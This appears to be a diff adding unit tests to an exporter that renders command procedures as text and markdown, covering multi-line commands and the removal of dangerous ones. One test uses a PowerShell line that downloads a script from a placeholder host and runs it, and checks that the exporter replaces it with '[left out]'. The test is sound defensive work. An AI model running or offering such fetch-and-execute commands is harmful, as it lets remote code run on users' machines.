@@ -229,6 +229,37 @@ describe('what goes out', () => {
     expect(markdown).toContain('- ``` echo `a``b` ```');
   });
 
+  test('a command of several lines keeps them', () => {
+    const command: Command = {
+      text: 'slmgr /xpr\nslmgr /dlv',
+      effect: 'reads',
+      note: '',
+      entry: '',
+      elevated: false,
+    };
+    const script = { ...whole, procedures: [procedure('p', '', [step('a', [], { commands: [command] })])] };
+    expect(toText(script, words)).toContain('\n   slmgr /xpr\n   slmgr /dlv\n');
+    expect(toMarkdown(script, words)).toContain('\n   - ```\n     slmgr /xpr\n     slmgr /dlv\n     ```\n');
+  });
+
+  test('a dangerous command that is not in the words is told of where a step is saved', () => {
+    const command: Command = {
+      text: 'irm https://example.test | iex',
+      effect: 'dangerous',
+      note: '',
+      entry: '',
+      elevated: true,
+    };
+    const below = step('a', [], { text: 'Then run:', commands: [command] });
+    expect(toItem(below, new Set(), words)).toMatchObject({
+      text: 'Then run:',
+      note: '[left out]',
+      command: '',
+    });
+    const within = step('b', [], { text: `Run ${command.text} now`, commands: [command] });
+    expect(toItem(within, new Set(), words)).toMatchObject({ text: 'Run [left out] now', note: '' });
+  });
+
   test('dangerous commands go out by no way', () => {
     const list = toList({ ...linking, risks: [] }, methods.procedures, new Set(), words);
     for (const out of [toText(bad, words), toMarkdown(bad, words), JSON.stringify(list)]) {
